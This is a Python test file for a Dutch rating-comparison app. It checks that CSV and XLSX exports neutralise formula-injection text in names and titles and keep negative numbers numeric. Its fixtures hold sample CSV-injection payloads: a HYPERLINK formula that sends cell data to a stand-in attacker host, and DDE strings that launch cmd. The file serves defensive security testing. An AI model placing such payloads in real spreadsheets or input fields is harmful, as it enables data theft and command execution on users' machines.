"""Formula injection in exports (issue 13, finding 7): a display name, group name or case title that
starts like a formula is inert in the compare CSV and XLSX, and numbers stay numbers.

The hostile names reach the export the way they would in use: the display name is stored through the
façade (``kit.add_person``) and read back, then the comparison is built from plain data and written by
the same functions the Vergelijken app offers for download (:func:`oefenkit.compare_export.to_csv`,
:func:`oefenkit.compare_export.to_xlsx`). The XLSX file is read back with openpyxl.
"""

from __future__ import annotations

import csv
import io

import pytest

from oefenkit.compare import RatingRecord, build_comparison
from oefenkit.compare_export import to_csv, to_xlsx
from oefenkit.exports import FORMULA_TRIGGERS, csv_text
from oefenkit.identity import SYSTEM

HYPERLINK = '=HYPERLINK("http://aanvaller.example/?d="&A1,"Klik")'
#: One hostile text per trigger character (a DDE call, a sum, an at-function, tab and CR).
HOSTILE_NAMES = (HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
                 "\t=1+1", "\r=1+1")


def _comparison(names: list[tuple[str, str]]):
    cases = [("c1", "=1+1 titel"), ("c2", "Gewoon fragment"), ("c3", "@fragment")]
    experts = [(e, c, s) for e in ("e1", "e2") for c, s in (("c1", 5), ("c2", 6), ("c3", 8))]
    # Scores below the consensus give negative deviations, biases and limits of agreement.
    scores = {"c1": 4, "c2": 3, "c3": 7}
    ratings = [RatingRecord(u, c, scores[c] - (k % 2)) for k, (u, _) in enumerate(names) for c in scores]
    return build_comparison(group_name="-groep", case_set_code="+set", scale_code="sensitiviteit",
                            scale_min=1, scale_max=9, cases=cases, raters=names, ratings=ratings,
                            expert_scores=experts)


@pytest.fixture
def hostile(kit):
    """The hostile display names as the kit stores them (the façade accepts them as names)."""
    stored = []
    for k, name in enumerate(HOSTILE_NAMES):
        actor = kit.add_person(SYSTEM, f"aanvaller{k}", role="cursist", display_name=name,
                               password="geheim-wachtwoord")
        stored.append((actor.username, kit.find_person(actor.username).display_name))
    assert any(d == HYPERLINK for _, d in stored)  # the finding: such a name can be stored
    return _comparison(stored), [d for _, d in stored]


def _is_number(text: str) -> bool:
    try:
        float(text.replace(",", "."))
    except ValueError:
        return False
    return True


def test_csv_neutralises_formula_text_but_keeps_numbers(hostile):
    """Does every text cell of the CSV that starts with = + - @ tab or CR begin with a single quote, with
    the name after it unchanged, while negative numbers (deviations, bias) stay plain numbers?"""
    hostile, names = hostile
    rows = list(csv.reader(io.StringIO(to_csv(hostile)), delimiter=";"))
    cells = [cell for row in rows for cell in row]
    risky = [cell for cell in cells if cell.startswith(FORMULA_TRIGGERS) and not _is_number(cell)]
    assert not risky, risky
    for name in names:
        assert "'" + name in cells  # each name is there, as text, readable after the quote
    assert "'-groep" in cells and "'+set" in cells and "'=1+1 titel" in cells
    negatives = [cell for cell in cells if cell.startswith("-") and _is_number(cell)]
    assert negatives and not any(cell.startswith("'-") and _is_number(cell[1:]) for cell in cells)
    deviation = next(c for row in hostile.matrix for c in row.cells if c.deviation is not None and c.deviation < 0)
    assert f"{deviation.deviation:g}".replace(".", ",") in negatives


def test_csv_text_helper_only_touches_risky_text():
    """Does the shared helper prefix exactly the risky starts, and leave other text alone?"""
    for trigger in FORMULA_TRIGGERS:
        assert csv_text(trigger + "x") == "'" + trigger + "x"
    assert csv_text("Anna de Vries") == "Anna de Vries" and csv_text(" =1") == " =1" and csv_text(None) == ""


def test_xlsx_has_no_formula_cells_and_keeps_numbers(hostile):
    """Read back with openpyxl: is no cell a formula, is every hostile name a text cell with its exact
    value (and Excel's quote prefix), and are the negative deviations numeric cells?"""
    from openpyxl import load_workbook

    hostile, names = hostile
    wb = load_workbook(io.BytesIO(to_xlsx(hostile)))
    cells = [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row if cell.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    by_value = {}
    for c in cells:
        by_value.setdefault(c.value, []).append(c)
    for name in (*names, "-groep", "+set", "=1+1 titel"):
        assert by_value.get(name), name  # the value itself, without a visible quote
        assert all(c.data_type == "s" and c.quotePrefix for c in by_value[name]), name
    numbers = [c for c in cells if isinstance(c.value, (int, float))]
    assert any(c.value < 0 and c.data_type == "n" for c in numbers)
    assert not any(isinstance(c.value, str) and _is_number(c.value) for c in cells)
